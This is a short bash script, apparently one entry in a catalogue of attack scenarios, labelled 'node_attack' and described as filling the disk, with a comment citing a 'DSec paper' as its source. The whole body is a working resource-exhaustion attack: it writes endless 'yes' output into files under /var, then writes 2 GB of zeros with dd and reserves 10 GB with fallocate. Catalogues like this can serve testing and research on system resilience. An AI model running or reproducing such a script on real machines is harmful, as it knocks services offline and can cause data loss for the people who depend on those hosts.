#!/bin/bash
# class: node_attack
# does: fills the disk
# source: DSec paper, security incidents: output of yes
# repo: any
# when: last
(yes > /var/fill & yes | tee /var/fill2 > /var/fill3 & sleep 4; kill %1 %2) 2>/dev/null; dd if=/dev/zero of=/var/fill4 bs=1M count=2000; fallocate -l 10G /var/huge
